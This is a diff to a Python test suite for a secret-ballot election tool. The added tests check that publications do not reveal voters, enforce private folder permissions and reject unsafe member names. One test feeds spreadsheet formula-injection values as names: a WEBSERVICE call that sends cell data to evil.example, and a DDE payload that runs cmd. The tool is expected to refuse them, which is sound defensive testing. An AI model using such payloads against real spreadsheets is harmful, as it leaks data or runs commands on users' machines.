@@ -1,5 +1,6 @@
 """What somebody tries who wants to know who voted what in a secret vote, and what a slip of the secretary's hand would tell."""
 
+import os
 import pathlib
 import shutil
 import sys
@@ -72,6 +73,27 @@ class OpenPublication(SecretTest):
         self.assertNotIn(line, self.read("call/poll.toml"))
 
 
+    def test_no_call_without_the_line(self) -> None:
+        """A run of `codes` that was killed, or an editor, may have left the poll without it."""
+        poll = self.read("poll.toml")
+        self.done("codes")
+        self.write("poll.toml", poll)
+        self.assert_fault(self.election("call"), 9, "the line is gone by which a copy of this poll is known", "run debvote-election codes")
+        self.assertFalse((self.folder / "call").exists())
+        self.done("codes")
+        self.done("call")
+
+    def test_the_line_is_known_however_an_editor_lays_it_out(self) -> None:
+        self.done("codes")
+        line, rest = self.read("poll.toml").split(b"\n", 1)
+        for text in (line.replace(b"# ", b"#") + b"\n" + rest, rest + b"   " + line, line.replace(b"which", b"\n# which") + b"\n" + rest):
+            with self.subTest(text=text[:60]):
+                (self.scratch / "poll.toml").write_bytes(text)
+                (self.scratch / "ballots").write_text(BALLOTS)
+                ended = self.publish_openly(self.scratch / "poll.toml", self.scratch / "ballots")
+                self.assert_fault(ended, 9, "it says that the vote is secret")
+
+
 class TwoPublications(SecretTest):
     """A second publication beside a first one tells whose ballots changed; the secretary is told before it is put on the web."""
 
@@ -90,6 +112,50 @@ class TwoPublications(SecretTest):
         output = self.done("publish", "--secret", "--even-so", web / "spring-2")
         self.assertIn(f"Note: {web / 'spring'} has other ballots, or none, of 1 elector.", output)
         self.assertNotIn("voters.txt", output)
+
+    def test_a_call_that_was_moved_to_the_web_site(self) -> None:
+        """Without the folder of the call an elector can be added, and is told from the others: nothing is published then."""
+        members = MEMBERS.replace("ida,Ida <É>,ida@club.example\n", "")
+        self.write("members.csv", members)
+        self.done("roll")
+        self.done("codes")
+        self.done("call")
+        shutil.move(self.folder / "call", self.scratch / "web")
+        self.write("members.csv", MEMBERS)
+        self.done("roll")
+        self.assertIn("Note: the folder call is gone. If anybody has seen that call", self.done("codes"))
+        self.assertEqual(self.election("add", "--even-so", given=BALLOTS).status, 0)
+        self.done("close")
+        ended = self.election("publish", "--secret", "--even-so")
+        self.assert_fault(ended, 9, "the alias of ida is not on the roll that was called", "call again")
+        self.assertFalse((self.folder / "result").exists())
+
+    def test_a_call_that_was_moved_and_nothing_else(self) -> None:
+        self.closed()
+        shutil.move(self.folder / "call", self.scratch / "web")
+        self.done("publish", "--secret")
+
+    def test_what_lies_beside_a_publication(self) -> None:
+        """A link that leads to itself, a pipe, a folder that is no poll: none of them stops or holds up a publication."""
+        self.closed()
+        (self.folder / "loop").symlink_to("loop")
+        for name, poll in (("pipe", None), ("odd", b"title = "), ("odder", b"roll = 1\n")):
+            (self.folder / name).mkdir()
+            (self.folder / name / "ballots.txt").write_text("x\n")
+            if poll is None:
+                os.mkfifo(self.folder / name / "poll.toml")
+            else:
+                (self.folder / name / "poll.toml").write_bytes(poll)
+        self.assertNotIn("Note", self.done("publish", "--secret"))
+
+    def test_an_elector_more(self) -> None:
+        """Two publications with one elector more in the second tell whose ballot is new."""
+        self.closed()
+        self.done("publish", "--secret", "first")
+        row = self.read("private/codes.csv").splitlines()[1].decode().split(",")
+        poll = self.read("first/poll.toml").replace(b'"' + row[-1].encode() + b'"', b'"' + b"0" * 32 + b'"')
+        self.write("first/poll.toml", poll)
+        self.assertIn("Note: first has other ballots, or none, of 2 electors.", self.done("publish", "--secret", "second"))
 
     def test_with_lists_of_voters(self) -> None:
         self.closed()
@@ -121,13 +187,58 @@ class Codes(SecretTest):
         self.assertEqual((len(aliases[0]), aliases[0] & aliases[1]), (9, set()))
 
     def test_a_name_that_a_spreadsheet_would_carry_out(self) -> None:
-        for said in ('"=WEBSERVICE(""http://evil.example/""&D3)"', "@SUM(D3)", "+cmd|' /C calc'!A0", '"-HYPERLINK(D3)"'):
+        functions = ['"=WEBSERVICE(""http://evil.example/""&D3)"', "@SUM(D3)", "+cmd|' /C calc'!A0", '"-HYPERLINK(D3)"']
+        for said in [*functions, "+D3", "-D3", '"+""Ben ""&D2"', "\uff1dD3", "\u200b=D3"]:
             with self.subTest(said=said):
                 self.write("members.csv", MEMBERS.replace("Ben <É>", said))
                 self.assert_fault(self.election("codes"), 9, "members.csv:3: a spreadsheet would take `", "for a formula")
                 self.assertFalse((self.folder / "private").exists())
         self.write("members.csv", MEMBERS.replace("ben@club.example", "+49 30 123456").replace("Eve <É>", "-"))
         self.done("codes")
+    def test_a_name_that_goes_to_another_person(self) -> None:
+        """Before the call there is a new code, so that the slip of the first person shows nothing; after it the code stays."""
+        self.done("codes")
+        before = {row["name"]: row for row in self.rows()}
+        other = MEMBERS.replace("Ben <É>,ben@club.example", "Berta,berta@club.example").replace("eve@club.example", "eve@new.example")
+        self.write("members.csv", other)
+        output = self.done("codes")
+        self.assertIn("Note: ben has another real name in members.csv than with the code, so there is a new code; ", output)
+        self.assertIn("Made 1 code (ben): private/codes.csv; 8 codes that were there stay as they are.", output)
+        rows = {row["name"]: row for row in self.rows()}
+        self.assertEqual((rows["ben"]["who"], rows["ben"]["mail"]), ("Berta", "berta@club.example"))
+        self.assertNotEqual(rows["ben"]["code"], before["ben"]["code"])
+        self.assertEqual(rows["eve"], before["eve"] | {"mail": "eve@new.example"})
+        self.assertEqual([rows[name] for name in "ada cleo".split()], [before[name] for name in "ada cleo".split()])
+        self.assertIn("was not changed", self.done("codes"))
+        self.done("call")
+        self.write("members.csv", other.replace("Berta", "Bertram").replace("hal@club", "hal@new"))
+        output = self.done("codes")
+        self.assertIn("Note: ben has another real name in members.csv than with the code; the code stays", output)
+        self.assertIn("private/codes.csv has what members.csv says now, and the codes as they were.", output)
+        after = {row["name"]: row for row in self.rows()}
+        self.assertEqual((after["ben"], after["hal"]["mail"]), (rows["ben"], "hal@new.example"))
+
+    def test_a_name_on_two_lines(self) -> None:
+        self.write("members.csv", MEMBERS.replace("Ben <É>", '"Ben\rof the lake"'))
+        self.done("codes")
+        self.assertEqual(self.rows()[1]["who"], "Ben of the lake")
+        self.assertIn("was not changed", self.done("codes"))
+
+    def test_a_private_folder_that_was_made_by_hand(self) -> None:
+        (self.folder / "private").mkdir(mode=0o700)
+        self.folder.chmod(0o755)
+        self.done("codes")
+        self.assertEqual(self.mode("."), 0o700)
+
+    def test_no_ballot_into_a_folder_that_others_may_look_into(self) -> None:
+        self.done("codes")
+        self.done("call")
+        self.folder.chmod(0o755)
+        for words in (("add",), ("desk",), ("close",)):
+            ended = self.election(*words, given=BALLOTS)
+            self.assert_fault(ended, 9, "others than you may use it (mode 755)", "chmod 700 .")
+        self.assertFalse((self.folder / "ballots").exists())
+
     def test_a_folder_that_others_may_look_into(self) -> None:
         self.done("codes")
         self.folder.chmod(0o750)
@@ -139,6 +250,21 @@ class Codes(SecretTest):
         self.assertIn("Note: .: others than you may use it (mode 705)", self.done("status"))
         self.assert_fault(self.election("publish", "--secret", "--even-so"), 9, "others than you may use it (mode 705)")
         self.assertFalse((self.folder / "result").exists())
+
+
+# a ballot and whose it is, as it stands in mails, tables, and what `add` prints
+NAMED_BALLOTS = [
+    "5 replaced  ada: At the lake, then Further discussion; not ranked, and so behind all others: In the town hall",
+    "ada: 2,1,3,4",
+    "ada;2,1,3,4",
+    "ada;2;1;3;4",
+    'ada,"2,1,3,4"',
+    "ada 2 1 3 4",
+    "ada\t2\t1\t-\t4",
+    "Ada <ada@club.example> 2,1,3,4",
+    "Cleo <É> 1,-,2,3",
+    "ben: In the town hall",
+]
 
 
 class TextsForThePage(SecretTest):
@@ -172,6 +298,8 @@ class TextsForThePage(SecretTest):
             (f"Ada is {elector['alias'].upper()}", "it has the alias of an elector"),
             ("So voted:\nAda  2, 1,-,3\n", "it has a ballot with the name of its elector"),
             (BALLOTS, "it has a ballot with the name of its elector"),
+            *((ballot, "it has a ballot with the name of its elector") for ballot in NAMED_BALLOTS),
+            (f"Ada: {elector['alias'][:16]} {elector['alias'][16:]}", "it has the alias of an elector"),
             (f"Sum of ballots: {ballots_sum}", "it has the sum of a private file"),
             (f"Sum of poll.toml as it is now: {now}", "it has the sum of a private file"),
             (f"Sum of poll.toml as it was: {called}", "it has the sum of a private file"),
@@ -184,6 +312,8 @@ class TextsForThePage(SecretTest):
 
     def test_what_a_secretary_writes(self) -> None:
         announced = self.run_program("sha256sum", "call/poll.toml").output[:64]
-        self.write("about.txt", f"Certified on 4 December 2026 by Ada, 3 Lake Road, and Ben. The call announced {announced}.\n")
+        said = f"Certified on 4 December 2026 by Ada, 3 Lake Road, and Ben. The call announced {announced}.\n"
+        said += "Hal: further discussion is on 11 December. Ida, 12 votes; Gus 030 12 34 56 78.\n"
+        self.write("about.txt", said)
         self.write("labels.txt", "0\tWo wir uns treffen\n1\tAm See\n")
         self.done("publish", "--secret", "--about", "about.txt", "--labels", "labels.txt")
